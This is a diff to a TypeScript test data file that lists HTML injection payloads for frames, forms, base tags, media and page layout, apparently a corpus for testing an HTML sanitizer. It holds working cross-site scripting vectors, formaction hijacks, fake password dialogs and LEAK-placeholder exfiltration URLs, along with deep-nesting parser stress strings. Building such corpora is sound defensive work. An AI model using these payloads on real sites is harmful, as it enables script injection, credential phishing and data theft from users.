@@ -1,13 +1,10 @@
 /** HTML that affects its surroundings: frames, forms, base, styles, names and layout. */
 import type { PayloadTable } from './table.ts';
 
-const many = (count: number, text: string) => text.repeat(count);
-
 export const surroundings: PayloadTable = {
   iframes: [
     '<iframe src="javascript:parent.HIT"></iframe>',
     '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
-    '<iframe src="LEAK"></iframe>',
     '<iframe src="data:text/html,<script>HIT</script>"></iframe>',
     '<iframe onload=HIT></iframe>',
     '<iframe credentialless src="LEAK" style="position:fixed;inset:0;width:100%;height:100%"></iframe>',
@@ -21,16 +18,13 @@ export const surroundings: PayloadTable = {
     '<form><button formaction="javascript:HIT">send</button></form>',
     '<form><input type=image src="LEAK/i.png" formaction="LEAK"></form>',
     '<button form=site-form formaction="LEAK">send</button><input form=site-form name=more>',
-    '</form><form action="LEAK"><input type=submit value=send>',
     '<select autofocus onfocus=HIT><option>a</select>',
     '<label for=root onclick=HIT>press</label><fieldset onclick=HIT>here</fieldset>',
     '<dialog open style="position:fixed;inset:0;z-index:99999"><form method=dialog><input type=password></form></dialog>',
-    '<input type=hidden name=csrf id=csrf><output name=token id=token>x</output>',
   ],
   base: [
     '<base href="LEAK/"><a href="x">relative</a>',
     '<base target=_top><a href="javascript:HIT">x</a>',
-    '<BaSe/href="//HOST/">',
     '<svg><base href="LEAK/"></svg><img src="relative.png"><base href="LEAK/">',
   ],
   meta: [
@@ -69,7 +63,6 @@ export const surroundings: PayloadTable = {
   ],
   media: [
     '<video src="LEAK/v.mp4" autoplay></video>',
-    '<video poster="LEAK/p.png"></video>',
     '<video><track default kind=subtitles src="LEAK/t.vtt"></video><video poster="LEAK/u.png">',
     '<picture><source srcset="LEAK/w.png"><img src="/none"></picture>',
     '<img srcset="LEAK/x.png 1x" src="/none">',
@@ -83,14 +76,14 @@ export const surroundings: PayloadTable = {
     '<img src="/none" width=99999 height=9 onerror=HIT>',
     '<table width=99999><tr><td width=99999 height=50>wide</td></tr></table><marquee width=99999 onstart=HIT>x</marquee>',
     '<hr width=99999 size=500><pre width=99999 style="margin-left:-9999px;width:99999px;position:relative">x</pre>',
-    `<p style="position:absolute;top:0">${many(3000, 'W')}</p>`,
-    `${many(600, '<blockquote>')}deep${many(600, '</blockquote>')}<svg onload=HIT>`,
-    `${many(3000, '<div>')}deeper<svg onload=HIT>`,
-    `<ul>${many(300, '<li><ul>')}list<img src=/none onerror=HIT>`,
-    `<p ${many(2000, 'a=b ')}onclick=HIT>many attributes</p>`,
-    `<p>${many(20_000, '<!--')}</p>--><img src=/none onerror=HIT>`,
-    `${many(20_000, '<a ')}<img src=/none onerror=HIT>`,
-    `<img src=/none onerror=HIT>${many(20_000, '<script>')}`,
-    `<img src=/none onerror=HIT>${many(50_000, '&amp;')}`,
+    `<p style="position:absolute;top:0">${'W'.repeat(3000)}</p>`,
+    `${'<blockquote>'.repeat(600)}deep${'</blockquote>'.repeat(600)}<svg onload=HIT>`,
+    `${'<div>'.repeat(3000)}deeper<svg onload=HIT>`,
+    `<ul>${'<li><ul>'.repeat(300)}list<img src=/none onerror=HIT>`,
+    `<p ${'a=b '.repeat(2000)}onclick=HIT>many attributes</p>`,
+    `<p>${'<!--'.repeat(20_000)}</p>--><img src=/none onerror=HIT>`,
+    `${'<a '.repeat(20_000)}<img src=/none onerror=HIT>`,
+    `<img src=/none onerror=HIT>${'<script>'.repeat(20_000)}`,
+    `<img src=/none onerror=HIT>${'&amp;'.repeat(50_000)}`,
   ],
 };
